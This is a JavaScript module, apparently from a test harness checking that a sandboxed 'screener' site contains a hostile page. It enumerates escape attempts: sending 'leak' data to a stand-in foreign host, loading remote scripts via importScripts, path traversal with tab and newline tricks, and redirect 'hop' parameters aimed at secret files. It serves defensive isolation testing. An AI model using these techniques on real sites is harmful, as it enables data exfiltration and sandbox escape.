/* A hostile page's attempts to reach past the screener site: shared by the page and
   every kind of worker. Each attempt is given a few seconds and its failure swallowed;
   what counts is what reaches the foreign stand-in and the site's request log. */
var Hostile = (function () {
  "use strict";
  // The stand-in's names; its ports come with the page (configure).
  var foreignHost = "cdn.foreign.example";
  var quicHost = "quic.foreign.example";
  var cfg = { tcp: 9, udp: 9, rounds: 1 };
  var covered = {};

  function configure(c) { cfg = c; }
  function foreign(scheme, path) { return scheme + "://" + foreignHost + path; }
  function literal(scheme, path) { return scheme + "://127.0.0.1:" + cfg.tcp + path; }
  function hop(sitePath, target) {
    return sitePath + (sitePath.indexOf("?") < 0 ? "?" : "&") + "hop=" +
           encodeURIComponent(target);
  }

  function within(ms, promise) {
    return Promise.race([
      Promise.resolve(promise).then(function () {}, function () {}),
      new Promise(function (done) { setTimeout(done, ms); })]);
  }

  // Runs fn (which may return a promise) as one attempt on a named channel.
  function attempt(channel, fn) {
    covered[channel] = true;
    return within(4000, new Promise(function (resolve) { resolve(fn()); }));
  }

  function socket(url) {
    return new Promise(function (done) {
      var ws = new WebSocket(url);
      ws.onopen = function () { ws.send("leak"); ws.close(); done(); };
      ws.onerror = ws.onclose = done;
    });
  }

  function eventSource(url) {
    return new Promise(function (done) {
      var es = new EventSource(url);
      es.onopen = es.onerror = function () { es.close(); done(); };
    });
  }

  function xhr(method, url) {
    return new Promise(function (done) {
      var x = new XMLHttpRequest();
      x.open(method, url);
      x.onloadend = done;
      x.send(method === "GET" ? null : "leak");
    });
  }

  function webTransport(url) {
    var t = new WebTransport(url);
    return t.ready.then(function () {
      var w = t.datagrams.writable.getWriter();
      return w.write(new Uint8Array([1, 2, 3]));
    }).finally(function () { try { t.close(); } catch (e) {} });
  }

  // Channels every context has: fetch and its relatives, sockets, redirects, forbidden
  // paths of the site itself, QUIC.
  function common(where) {
    var c = cfg;
    var list = [
      ["fetch", function () { return fetch(foreign("https", "/" + where + "/fetch")); }],
      ["fetch", function () { return fetch(foreign("http", "/" + where + "/fetch")); }],
      ["fetch", function () { return fetch(literal("http", "/" + where + "/fetch"), { mode: "no-cors" }); }],
      ["fetch", function () { return fetch(foreign("https", "/x"), { method: "POST", body: "leak", mode: "no-cors" }); }],
      ["websocket", function () { return socket(foreign("wss", "/" + where)); }],
      ["websocket", function () { return socket(literal("ws", "/" + where)); }],
      ["websocket", function () { return socket(location.origin.replace(/^http/, "ws") + "/private/" + where); }],
      ["fetch", function () { return fetch("https://127.0.0.1:" + c.tcp + "/" + where, { mode: "no-cors" }); }],
      ["forbidden-path", function () { return fetch("/data/secret.json"); }],
      ["forbidden-path", function () { return fetch("/fonts/leak.woff2"); }],
      ["forbidden-path", function () { return fetch("/private/leak.html"); }],
      ["forbidden-path", function () { return fetch("/stocks/leak.php"); }],
      ["forbidden-path", function () { return fetch("/images/.\t./data/secret.json"); }],
      ["forbidden-path", function () { return fetch("/images/.\n./data/secret.json"); }],
      ["post", function () { return fetch("/screener.html", { method: "POST", body: "leak" }); }],
      ["post", function () { return fetch("/data/search.json", { method: "PUT", body: "leak" }); }],
      ["redirect", function () { return fetch(hop("/data/search.json", foreign("https", "/hop"))); }],
      ["redirect", function () { return fetch(hop("/data/search.json", literal("http", "/hop"))); }],
      ["redirect", function () { return fetch(hop("/data/search.json", "/data/hop-secret.json")); }],
      ["redirect", function () { return fetch(hop("/stocks/aapl.html", "/private/hop.html")); }],
      ["cache", function () { return caches.open("h").then(function (k) { return k.add(foreign("https", "/cache")); }); }],
      ["webtransport", function () { return webTransport("https://" + quicHost + ":443/" + where); }],
      ["webtransport", function () { return webTransport("https://127.0.0.1:" + c.udp + "/" + where); }],
    ];
    if (typeof XMLHttpRequest !== "undefined") {
      list.push(["xhr", function () { return xhr("GET", foreign("https", "/" + where + "/xhr")); }]);
      list.push(["xhr", function () { return xhr("POST", "/screener.html"); }]);
    }
    if (typeof EventSource !== "undefined") {
      list.push(["eventsource", function () { return eventSource(foreign("https", "/" + where + "/es")); }]);
    }
    if (typeof importScripts === "function" && where !== "service-worker") {
      list.push(["importscripts", function () { importScripts(foreign("https", "/" + where + "/import.js")); }]);
      list.push(["importscripts", function () { importScripts(hop("/js/search.js", foreign("https", "/hop.js"))); }]);
    }
    return list;
  }

  // Runs the attempts one after another, rounds times over.
  function run(list, rounds) {
    var chain = Promise.resolve();
    for (var r = 0; r < rounds; r++) {
      list.forEach(function (entry) {
        chain = chain.then(function () { return attempt(entry[0], entry[1]); });
      });
    }
    return chain.then(function () { return Object.keys(covered).sort(); });
  }

  return { configure: configure, config: function () { return cfg; }, foreignHost: foreignHost, common: common, run: run, attempt: attempt,
           within: within, foreign: foreign, literal: literal, hop: hop, covered: covered };
})();
